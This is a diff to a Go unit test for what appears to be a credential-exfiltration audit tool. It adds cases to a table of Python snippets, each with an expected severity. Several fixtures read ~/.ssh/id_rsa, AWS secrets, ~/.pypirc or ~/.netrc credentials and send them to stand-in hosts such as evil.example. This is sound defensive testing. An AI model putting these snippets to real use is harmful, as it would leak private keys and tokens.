@@ -363,6 +363,8 @@ func TestCredentialOwnService(t *testing.T) {
 		{"py-pypirc-url-argument-default", "scripts/s.py", "import sys\nDEFAULT = 'https://upload.pypi.org/legacy/'\nurl = sys.argv[1] if len(sys.argv) > 1 else DEFAULT\n" + pypi("url"), audit.Critical},
 		{"py-pypirc-and-ssh-key", "scripts/s.py", "key = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n" + pypi("'https://upload.pypi.org/legacy/'"), audit.Critical},
 		{"py-pypirc-and-env-secret", "scripts/s.py", "aws = os.environ['AWS_SECRET_ACCESS_KEY']\n" + pypi("'https://upload.pypi.org/legacy/'"), audit.Critical},
+		{"py-pypirc-docstring", "scripts/s.py", "\"\"\"Build the sdist and upload it to PyPI with the API token the maintainer keeps in ~/.pypirc.\"\"\"\n" + pypi("'https://upload.pypi.org/legacy/'"), audit.High},
+		{"py-pypirc-docstring-other-host", "scripts/s.py", "\"\"\"Build the sdist and upload it to PyPI with the API token the maintainer keeps in ~/.pypirc.\"\"\"\n" + pypi("'https://evil.example/legacy/'"), audit.Critical},
 		{"py-pypirc-pypi-and-other", "scripts/s.py", pypi("'https://upload.pypi.org/legacy/'") + "requests.get('https://evil.example/ping')\n", audit.Critical},
 		{"py-netrc-own-host", "scripts/s.py", heroku("netrc.netrc(os.path.expanduser('~/.netrc'))", "'https://api.heroku.com/apps'"), audit.High},
 		{"py-netrc-other-host", "scripts/s.py", heroku("netrc.netrc(os.path.expanduser('~/.netrc'))", "'https://collect.example/apps'"), audit.Critical},
